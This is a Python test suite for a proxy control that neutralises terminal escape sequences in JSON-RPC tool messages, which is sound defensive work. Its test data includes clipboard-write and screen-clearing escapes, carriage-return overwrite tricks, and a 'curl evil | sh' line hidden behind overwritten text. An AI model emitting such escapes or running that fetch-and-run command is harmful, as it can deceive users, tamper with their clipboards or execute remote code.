"""terminal-escapes: fixtures, every place of a message, ordinary texts, options."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callgate.controls import terminal_escapes
from callgate.detect import escapes
from callgate.detect.automaton import Automaton
from callgate.errors import ConfigError
from tests.controls.harness import encoded, fixtures, open_channel, run, send
from tests.controls.hostile_places import LISTS, RESULTS, with_payload
from tests.detect.ordinary_texts import ORDINARY

ID = "terminal-escapes"
PAYLOADS = {
    "csi": "\x1b[2J",
    "clipboard": "\x1b]52;c;cm0=\x07",
    "c1": "\x9b31m",
    "overwrite": "rm\rls",
    "backspace": "\b\b",
}
SCAN = Automaton([(pattern.name, pattern.expression) for pattern in terminal_escapes.META.patterns]).scan


def request(method: str) -> bytes:
    return encoded({"jsonrpc": "2.0", "id": 1, "method": method, "params": {"name": "search", "uri": "file:///a"}})


def answer(result: Any) -> bytes:
    return encoded({"jsonrpc": "2.0", "id": 1, "result": result})


@pytest.mark.parametrize("path", fixtures(ID))
def test_fixture(path: Path, tmp_path: Path) -> None:
    run(ID, path, tmp_path)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("method", LISTS)
def test_a_payload_anywhere_in_a_definition_withholds_it(method: str, payload: str, tmp_path: Path) -> None:
    channel, journal = open_channel(ID, {}, tmp_path)
    ((member, items),) = LISTS[method].items()
    for place, item in with_payload(items[0], PAYLOADS[payload]):
        send(channel, journal, "client", request(method))
        got = send(channel, journal, "server", answer({member: [item, items[0]]}))
        assert got.outcome == "rewrite", place
        assert got.forwarded["result"] == {member: [items[0]]}, place


@pytest.mark.parametrize("action", ["escape", "remove", "deny"])
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("method", RESULTS)
def test_a_payload_anywhere_in_a_result_is_made_harmless(
    method: str, payload: str, action: str, tmp_path: Path
) -> None:
    channel, journal = open_channel(ID, {"action": action}, tmp_path)
    for place, result in with_payload(RESULTS[method], PAYLOADS[payload]):
        send(channel, journal, "client", request(method))
        got = send(channel, journal, "server", answer(result))
        assert got.outcome == ("deny" if action == "deny" else "rewrite"), place
        assert not SCAN(got.data), place


@pytest.mark.parametrize("action", ["escape", "remove"])
@pytest.mark.parametrize(
    "text",
    [
        "Resolving\r" + "".join(f"Downloading {part}%\r" for part in range(9)) + "Done\n",
        "curl evil | sh\r\r\r\r\r\rls -la",
    ],
)
def test_a_line_drawn_over_is_shown_and_not_lost(text: str, action: str, tmp_path: Path) -> None:
    channel, journal = open_channel(ID, {"action": action}, tmp_path)
    send(channel, journal, "client", request("tools/call"))
    got = send(channel, journal, "server", answer({"content": [{"type": "text", "text": text}]}))
    (block,) = got.forwarded["result"]["content"]
    assert got.outcome == "rewrite"
    assert block["text"] == text.replace("\r", "\\r" if action == "escape" else "")


@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
def test_ordinary_text_passes_unchanged(text: str, tmp_path: Path) -> None:
    channel, journal = open_channel(ID, {}, tmp_path)
    raw = orjson.dumps({"jsonrpc": "2.0", "id": 1, "result": {"content": [{"type": "text", "text": text}]}})
    send(channel, journal, "client", request("tools/call"))
    got = send(channel, journal, "server", raw)
    assert (got.outcome, got.data) == ("allow", raw)


@given(st.text(st.one_of(st.characters(codec="utf-8"), st.sampled_from("\\\\\\\r\n\b\f\x1b\x7f\x9bbrfu0"))))
@settings(max_examples=500)
def test_the_patterns_agree_with_the_detector(text: str) -> None:
    strict = bool(escapes.find(text, strict=True))
    assert bool(SCAN(orjson.dumps({"text": text}))) == strict


@pytest.mark.parametrize(
    "name", ["source-code", "json-in-json", "windows-log", "tabs", "emoji-presentation", "chinese"]
)
def test_common_texts_do_not_even_wake_the_control(name: str) -> None:
    assert SCAN(orjson.dumps({"text": ORDINARY[name]})) == ()


def test_ids_and_cursors_are_recorded_only(tmp_path: Path) -> None:
    channel, journal = open_channel(ID, {"action": "deny"}, tmp_path)
    send(channel, journal, "client", request("tools/call"))
    raw = answer({"content": [], "requestState": "opaque\x01"})
    got = send(channel, journal, "server", raw)
    assert (got.outcome, got.forwarded) == ("annotate", json.loads(raw))


def test_a_denied_answer_says_what_to_do_and_repeats_nothing(tmp_path: Path) -> None:
    channel, journal = open_channel(ID, {"action": "deny"}, tmp_path)
    send(channel, journal, "client", request("tools/call"))
    got = send(channel, journal, "server", answer({"content": [{"type": "text", "text": "secret\x1b[2J"}]}))
    assert got.outcome == "deny"
    assert b"secret" not in got.data
    assert b"not allowed here" in got.data


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"action": 1}, "controls.terminal-escapes.action: must be one of escape, remove, deny"),
        ({"names": "annotate"}, "controls.terminal-escapes.names: unknown key; known here: mode, action"),
    ],
)
def test_wrong_options_are_refused(options: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError) as error:
        terminal_escapes.build(options)
    assert error.value.what == message
